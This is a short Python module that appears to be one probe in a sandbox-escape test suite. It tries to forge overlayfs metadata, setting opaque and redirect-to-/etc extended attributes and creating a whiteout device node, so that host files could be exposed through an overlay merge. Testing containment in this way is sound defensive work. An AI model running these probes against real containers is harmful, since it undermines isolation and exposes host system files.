import os

from arms import P, any_works, attempt, call, native


@attempt
def deed():
    # what the overlay itself understands: made by hand they could name the host's files to a merge
    folder = (P["data"] + "/deep").encode()
    return any_works(
        lambda: native("setxattr", folder, b"user.overlay.opaque", b"y", 1, 0),
        lambda: native("setxattr", folder, b"user.overlay.redirect", b"/etc", 4, 0),
        lambda: call("mknodat", -100, folder + b"/white", 0o20666, 0),
    )
